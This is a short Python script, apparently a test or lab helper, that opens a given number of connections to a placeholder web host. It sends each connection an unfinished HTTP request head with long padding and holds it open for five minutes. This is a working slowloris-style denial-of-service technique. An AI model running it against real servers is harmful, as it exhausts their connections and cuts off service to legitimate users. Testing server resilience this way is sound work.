# SPDX-License-Identifier: Apache-2.0
"""slow.py N: inside a session, N connections that each begin the head of a request and
never end it."""
import socket, sys, time

held = []
for i in range(int(sys.argv[1])):
    s = socket.create_connection(("web.example", 80))
    s.sendall(b"GET / HTTP/1.1\r\nX-Padding: " + b"a" * 2000)
    held.append(s)
open("held", "w").close()
time.sleep(300)
